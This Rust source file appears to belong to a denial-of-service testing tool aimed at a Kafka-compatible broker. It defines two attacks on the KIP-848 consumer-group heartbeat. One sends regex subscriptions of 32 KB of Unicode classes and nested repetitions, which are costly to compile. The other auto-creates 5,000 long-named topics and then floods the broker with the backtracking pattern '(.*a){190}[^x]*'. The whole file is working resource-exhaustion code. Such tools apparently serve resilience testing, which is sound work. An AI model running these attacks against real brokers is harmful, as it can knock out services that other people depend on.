//! Patterns of consumer groups (KIP-848): small to send, large to compile or slow to match.

use riverrun_protocol::metadata_request::MetadataRequestTopic;
use riverrun_protocol::{ConsumerGroupHeartbeatRequest, MetadataRequest};

use super::{Attack, find_coordinator};
use crate::attack::attacker::{From, Shot, Tally, Target, Worker};
use crate::attack::wire::{Conn, frame};

/// Groups that are made at once.
const WORKERS: usize = 4;

/// A heartbeat with a pattern.
const VERSION: i16 = 1;

/// Classes of Unicode letters, in both cases, up to 32 KB.
const CLASSES: usize = 10_900;

/// Topics that a pattern is matched against, with long names.
const TOPICS: usize = 5_000;
const NAME_BYTES: usize = 200;

/// Those of one request.
const TOPICS_AT_ONCE: usize = 1_000;

/// Patterns that are long, or compile to much.
pub(super) struct LongPatterns;

impl Attack for LongPatterns {
    fn name(&self) -> &'static str {
        "long-patterns"
    }

    fn about(&self) -> &'static str {
        "4 connections join new groups with patterns of 32 KB of Unicode classes and nested repetitions"
    }

    fn short(&self) -> Option<From> {
        Some(From::Others)
    }

    fn prepare(&self, conn: &mut Conn) -> anyhow::Result<()> {
        find_coordinator(conn, "g")
    }

    fn act(&self, target: &Target) -> anyhow::Result<Tally> {
        let patterns = [
            format!("(?i){}", r"\pL".repeat(CLASSES)),
            format!("(?i){}", r"\w".repeat(1000)),
            "((((a{10}){10}){10}){10})".to_owned(),
        ];
        target.storm(WORKERS, |worker, conn| {
            join(worker, conn, &patterns[usize::try_from(worker.shot)? % patterns.len()])
        })
    }
}

/// A pattern that is slow to match, against many topics with long names.
pub(super) struct ManyTopics;

impl Attack for ManyTopics {
    fn name(&self) -> &'static str {
        "slow-patterns"
    }

    fn about(&self) -> &'static str {
        "4 connections join new groups with (.*a){190}[^x]* over 5,000 topics of long names"
    }

    fn prepare(&self, conn: &mut Conn) -> anyhow::Result<()> {
        find_coordinator(conn, "g")?;
        let letters = "a".repeat(NAME_BYTES);
        for first in (0..TOPICS).step_by(TOPICS_AT_ONCE) {
            let topic = |index| MetadataRequestTopic {
                name: Some(format!("{letters}{index}").into()),
                ..MetadataRequestTopic::default()
            };
            let topics = (first..first + TOPICS_AT_ONCE).map(topic).collect();
            let request = MetadataRequest {
                topics: Some(topics),
                allow_auto_topic_creation: true,
                ..MetadataRequest::default()
            };
            conn.send(&frame(&request, 4)?)?;
            conn.skip_answer()?;
        }
        Ok(())
    }

    fn act(&self, target: &Target) -> anyhow::Result<Tally> {
        target.storm(WORKERS, |worker, conn| join(worker, conn, "(.*a){190}[^x]*"))
    }
}

/// A member of a group that is new.
fn join(worker: &Worker, kept: &mut Option<Conn>, pattern: &str) -> anyhow::Result<Shot> {
    let request = ConsumerGroupHeartbeatRequest {
        group_id: format!("g{}-{}-{}", std::process::id(), worker.index, worker.shot).into(),
        member_id: "m".into(),
        rebalance_timeout_ms: 5000,
        subscribed_topic_regex: Some(pattern.into()),
        topic_partitions: Some(Vec::new()),
        ..ConsumerGroupHeartbeatRequest::default()
    };
    let mut conn = match kept.take() {
        Some(conn) => conn,
        None => worker.connect()?,
    };
    conn.send(&frame(&request, VERSION)?)?;
    conn.skip_answer()?;
    *kept = Some(conn);
    Ok(Shot::Answered)
}
